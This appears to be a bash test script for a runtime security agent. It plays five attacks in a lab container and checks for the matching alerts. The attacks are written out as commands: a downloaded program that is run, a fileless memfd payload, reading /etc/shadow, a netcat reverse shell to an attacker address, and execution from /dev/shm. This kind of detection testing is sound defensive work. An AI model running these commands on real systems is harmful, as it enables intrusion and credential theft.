# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# Five attacks inside the client container. Each proves by its output that it really happened, so that a missing alert
# is the agent's fault and never that of a play that did not take place.

readonly ALERT_SECONDS=5
ATTACKS=()         # "name|rules expected|rules seen|played"
LISTENER_PID=""

# attack NAME FUNCTION RULE:PATTERN...: plays one attack and waits for the alerts that it must give.
attack() {
	local name=$1 play=$2 expected="" seen="" played=no rule alert
	shift 2
	title "$name"
	if "$play"; then played=yes; else say "${RED}the attack itself failed${PLAIN}"; fi
	for expectation in "$@"; do
		rule=${expectation%%:*}
		expected+="${expected:+ }$rule"
		((with_agent)) || continue
		if eventually "$ALERT_SECONDS" agent_alert "$rule" "${expectation#*:}" >/dev/null; then
			alert=$(agent_alert "$rule" "${expectation#*:}")
			seen+="${seen:+ }$rule"
			printf '   %s%s%s %s\n' "$GREEN" "$rule" "$PLAIN" "$alert"
		else
			printf '   %s%s%s no alert within %s s\n' "$RED" "$rule" "$PLAIN" "$ALERT_SECONDS"
		fi
	done
	ATTACKS+=("$name|$expected|$seen|$played")
}

play_dropped() {
	in_container client "wget -q -O /tmp/dropped http://$WEB_NAME/dropped && chmod +x /tmp/dropped && /tmp/dropped" | grep -q 'dropped: running'
}

play_fileless() {
	in_container client "wget -q -O /tmp/fileless http://$WEB_NAME/fileless && chmod +x /tmp/fileless && /tmp/fileless" | grep -q 'fileless: running from memory'
}

play_shadow() { in_container client 'cat /etc/shadow' | grep -q '^root:'; }

play_reverse_shell() {
	local answer=$WORK/reverse-shell.out code=0
	printf 'id\nexit\n' >"$WORK/reverse-shell.in"
	nsenter --net="$(netns web)" -- busybox nc -l -p "$ATTACKER_PORT" <"$WORK/reverse-shell.in" >"$answer" 2>/dev/null &
	LISTENER_PID=$!
	eventually 5 listener_is_there || return 1
	in_container client "nc $ATTACKER_IP $ATTACKER_PORT -e /bin/sh" || true
	eventually 5 grep -q 'uid=0' "$answer" || code=1
	listener_stop
	return $code
}

# The listener may take IPv4 through an IPv6 socket, hence both files; 0A is TCP_LISTEN.
listener_is_there() {
	in_netns web grep -qs "$(printf ':%04X [0-9A-F]*:0000 0A' "$ATTACKER_PORT")" /proc/net/tcp /proc/net/tcp6
}

listener_stop() {
	[[ -n $LISTENER_PID ]] || return 0
	child_kill "$LISTENER_PID"
	LISTENER_PID=""
}

play_shared_memory() {
	in_container client 'cp /bin/busybox /dev/shm/echo && /dev/shm/echo running from shared memory' | grep -q 'running from shared memory'
}

attacks_play() {
	attack "1 A new program is downloaded and run" play_dropped 'R0001:/tmp/dropped' 'R1001:/tmp/dropped'
	attack "2 A program runs from memory only (memfd)" play_fileless 'R1005:memfd'
	attack "3 /etc/shadow is read" play_shadow 'R0010:/etc/shadow'
	attack "4 A reverse shell goes to a new address" play_reverse_shell "R0011:${ATTACKER_IP//./\\.}"
	attack "5 A program runs from /dev/shm" play_shared_memory 'R1000:/dev/shm'
}

# attacks_table: the result of the demo; false unless every attack took place and gave what was expected.
attacks_table() {
	local line name expected seen played verdict code=0
	title "Expected against seen"
	printf '   %-46s %-14s %-14s %s\n' attack expected seen result
	for line in "${ATTACKS[@]}"; do
		IFS='|' read -r name expected seen played <<<"$line"
		verdict="${GREEN}ok$PLAIN"
		if [[ $played != yes ]] || { ((with_agent)) && [[ $expected != "$seen" ]]; }; then
			verdict="${RED}MISSED$PLAIN"
			code=1
		fi
		((with_agent)) || seen="(no agent)"
		printf '   %-46s %-14s %-14s %s\n' "$name" "$expected" "${seen:--}" "$verdict"
	done
	return $code
}
